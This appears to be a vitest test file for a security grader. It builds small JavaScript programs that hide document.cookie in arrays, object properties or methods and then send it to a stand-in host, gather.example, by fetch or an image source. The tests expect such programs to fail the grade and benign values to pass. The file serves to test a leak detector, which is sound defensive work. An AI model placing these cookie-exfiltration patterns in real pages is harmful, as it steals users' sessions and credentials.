import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * What lies in a list or an object is not what it began with: programs whose only way out is the address of one request.
 */

const OUT = "'https://gather.example/c?' + ";

/** A place that is filled after it was made, and the request that takes from it. */
const LATER: readonly (readonly [name: string, program: (data: string) => string])[] = [
  ['a list', (data) => `const list = []; list.push(${data}); fetch(${OUT}list.join('&'));`],
  ['a list, by a function', (data) => `const l = []; function f(to) { to.push(${data}); } f(l); fetch(${OUT}l[0]);`],
  ['a list, by its place', (data) => `const l = ['', '']; l[1] = ${data}; fetch(${OUT}l.join(''));`],
  ['a list, in its midst', (data) => `const l = ['a']; l.splice(0, 0, ${data}); fetch(${OUT}l.join(''));`],
  ['a list, all over', (data) => `const l = ['a', 'b']; l.fill(${data}); fetch(${OUT}l.join(''));`],
  ['a list, by apply', (data) => `const l = []; l.push.apply(l, [${data}]); fetch(${OUT}l.join(''));`],
  ['a property', (data) => `const o = { a: '' }; o.a = ${data}; fetch(${OUT}o.a);`],
  ['a property, by another name', (data) => `const o = { a: '' }, p = o; p.a = ${data}; fetch(${OUT}o.a);`],
  ['a property, by assign', (data) => `const o = { a: '' }; Object.assign(o, { a: ${data} }); fetch(${OUT}o.a);`],
  [
    'all properties',
    (data) =>
      `const o = { a: '' }, l = []; o.a = ${data}; for (const k in o) l.push(k + '=' + o[k]); fetch(${OUT}l.join('&'));`,
  ],
  [
    'an object, by its own method',
    (data) =>
      `const o = { l: [], add(x) { this.l.push(x); }, send() { fetch(${OUT}o.l[0]); } }; o.add(${data}); o.send();`,
  ],
];

const grade = (content: string): Promise<string> => graded({ content });

describe('data that is put later into', () => {
  it.each(LATER)('%s is sent', async (_, program) => {
    expect(await grade(program('document.cookie'))).toBe('F');
    expect(await grade(program("'dark'"))).toMatch(/^A/);
  });
});

describe('a name that goes on with what it held', () => {
  const send = (to: string): string => `
    var app = app || { to: '${to}' };
    app.send = function () { var i = document.createElement('img'); i.setAttribute('src', app.to + document.cookie); };
    app.send();`;

  it('has what it begins with', async () => {
    expect(await grade(send('https://gather.example/c?'))).toBe('F');
    expect(await grade(send('/c?'))).toMatch(/^A/);
  });
});
